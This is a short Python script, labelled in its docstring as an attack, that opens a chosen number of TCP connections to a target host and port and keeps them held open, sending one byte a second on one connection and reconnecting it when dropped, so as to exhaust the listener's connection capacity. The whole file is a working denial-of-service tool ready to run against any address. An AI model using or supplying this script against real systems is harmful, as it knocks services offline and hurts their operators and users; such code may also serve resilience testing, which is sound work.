"""Attack: keep a listener busy by idle connections and a slow connection. ``sit_on_port.py HOST PORT COUNT``."""

import socket
import sys
import time

host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
held = [socket.create_connection((host, port), timeout=5) for _ in range(count)]
print("sitting", flush=True)
while True:
    try:
        held[0].sendall(b"s")
    except OSError:
        held[0] = socket.create_connection((host, port), timeout=5)
    time.sleep(1)
